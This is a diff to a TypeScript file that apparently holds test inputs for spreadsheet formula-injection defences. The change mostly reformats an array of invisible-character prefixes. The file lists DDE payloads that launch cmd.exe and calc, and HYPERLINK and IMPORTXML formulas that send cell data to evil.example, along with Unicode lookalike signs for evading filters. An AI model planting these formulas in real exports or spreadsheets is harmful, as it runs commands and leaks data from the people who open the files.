@@ -2,13 +2,30 @@
 export const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '⁺', '⁻', '₌', '₊', '₋', '−', '﬩'] as const;
 
 /** What is not seen, or is cut off, before the sign. */
-export const BEFORE = ['', ' ', '  ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u2060', '\u200e', '\u034f', '\u2800', '\u3164', "'"];
+export const BEFORE = [
+  '',
+  ' ',
+  '  ',
+  '\t',
+  '\r',
+  '\n',
+  '\u00a0',
+  '\u3000',
+  '\ufeff',
+  '\u200b',
+  '\u2060',
+  '\u200e',
+  '\u034f',
+  '\u2800',
+  '\u3164',
+  "'",
+];
 
 const CALLS = [
   "cmd|' /C calc'!A0",
   '1+1',
-  '2+5+cmd|\' /C calc\'!A0',
-  'SUM(1+1)*cmd|\' /C calc\'!A0',
+  "2+5+cmd|' /C calc'!A0",
+  "SUM(1+1)*cmd|' /C calc'!A0",
   'HYPERLINK("http://evil.example/?leak="&A1&A2,"Click")',
   'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
   "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
